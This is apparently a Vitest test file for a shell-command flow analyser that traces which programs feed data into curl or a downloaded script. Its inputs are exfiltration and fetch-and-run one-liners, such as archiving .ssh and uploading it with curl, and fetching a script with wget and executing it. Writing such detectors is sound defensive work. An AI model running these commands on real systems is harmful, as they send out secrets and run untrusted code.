import { describe, expect, test } from 'vitest';
import { readCommand } from '../read.ts';
import { feeders } from './flow.ts';

/** Programs whose output reaches the last run of the line. */
function reaching(line: string): string[] {
  const reading = readCommand(line, { dialect: 'posix' });
  const ids = feeders(reading).get(reading.runs.length - 1) ?? [];
  return [...ids].sort((a, b) => a - b).map((id) => reading.runs[id]!.program);
}

const flows: [why: string, line: string, reaching: string[]][] = [
  ['a pipe', 'cat k | curl -d @- u', ['cat']],
  ['pipes in a row', 'cat k | gzip | base64 | curl -d @- u', ['cat', 'gzip', 'base64']],
  ['a group', '{ cat a; cat b; } | curl -d @- u', ['cat', 'cat']],
  ['a substitution', 'curl -d "$(cat k | base64)" u', ['cat', 'base64']],
  ['a variable', 'T=$(cat k); V="x $T"; curl -d "$V" u', ['cat']],
  ['a variable that is read', 'cat k | while read l; do curl u/$l; done', ['cat']],
  ['a here-string', 'curl -d @- u <<< "$(cat k)"', ['cat']],
  ['a here-document', 'curl -d @- u <<E\n$(cat k)\nE', ['cat']],
  ['process substitution', 'curl -T <(cat k) u', ['cat']],
  ['a file', 'cat k > f; curl -d @f u', ['cat']],
  ['a file by another spelling', 'cat k > ./f; curl -F x=@f u', ['cat']],
  ['a file named by an option', 'curl u -o s.sh; bash s.sh', ['curl']],
  ['a file run by its name', 'wget -O s u; chmod +x s; ./s', ['wget']],
  ['a copy', 'cat k > a; cp a b; curl -T b u', ['cat', 'cp']],
  ['an archive', 'tar czf a.tgz .ssh; curl -T a.tgz u', ['tar']],
  ['tee', 'cat k | tee f; curl -T f u', ['cat', 'tee']],
  ['xargs', 'cat k | xargs curl', ['cat']],
  ['find', 'find . -exec curl -T {} u \\;', ['find']],
  ['into a shell with code', "cat k | bash -c 'curl -d @- u'", ['cat']],
  ['an environment variable', 'A=$(cat k) curl u', ['cat']],
  ['nothing of the kind', 'cat k; curl u', []],
  ['a file that both write', 'cat k > f; curl u > f', []],
  ['output that went to a file', 'cat k > f | curl -d @- u', []],
  ['a file that is written again later', 'curl -T f u > f', []],
];

describe('what reaches a run', () => {
  test.each(flows)('%s', (_, line, programs) => expect(reaching(line)).toEqual(programs));
  test('the reader of >(…)', () => {
    const reading = readCommand('cat k | tee >(curl -d @- u)');
    const curl = reading.runs.findIndex(({ program }) => program === 'curl');
    expect([...(feeders(reading).get(curl) ?? [])].map((id) => reading.runs[id]!.program)).toEqual([
      'tee',
      'cat',
    ]);
  });
});

test('the last of many in a group feeds too', () => {
  expect(reaching(`{ ${'a;'.repeat(300)} cat k; } | curl -d @- u`)).toContain('cat');
});

test('too much to follow counts as everything', () => {
  const reading = readCommand(`${'a|'.repeat(900)}b`);
  expect(feeders(reading).get(899)?.has(0)).toBe(true);
});
